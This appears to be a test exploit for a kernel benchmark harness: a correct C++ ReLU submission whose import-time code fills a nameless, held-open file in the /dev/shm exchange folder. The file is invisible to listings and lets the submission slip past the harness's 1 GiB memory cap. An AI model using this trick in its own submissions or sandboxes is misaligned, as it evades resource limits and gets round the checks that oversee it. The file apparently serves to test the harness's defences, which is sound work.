"""Exploit (memory cap): a correct C++ ReLU that, when loaded, writes HOLD_BYTES into the folder
in /dev/shm its outputs cross in (the memory exchange), as a file with no name (O_TMPFILE)
that it keeps open: memory outside its processes, which no listing of the folder shows. Where
the exchange was a writable bind of the host's /dev/shm, 1.5 GiB written there went uncounted
beside a 1 GiB cap. It writes until the file system says it is full, then keeps what it
wrote."""
import errno
import glob
import os

import torch
import torch.nn as nn

from kforge_nb.runtime import cpp

HOLD_BYTES = 3 << 29            # 1.5 GiB

source = r"""
#include <cstdint>

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
"""


def fill(folder: str, size: int) -> tuple[int, int]:
    """(descriptor kept open, bytes written) of a nameless file in `folder`."""
    fd = os.open(folder, os.O_TMPFILE | os.O_WRONLY, 0o600)
    chunk, written = b"\1" * (1 << 20), 0
    while written < size:
        try:
            written += os.write(fd, chunk)
        except OSError as err:
            if err.errno != errno.ENOSPC:
                raise
            break
    return fd, written


kernels = cpp.load(source)
kept = [fill(folder, HOLD_BYTES) for folder in glob.glob("/dev/shm/kforge-exchange-*")[:1]]


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = x.contiguous()
        y = torch.empty_like(x)
        kernels.relu(x, y, x.numel())
        return y
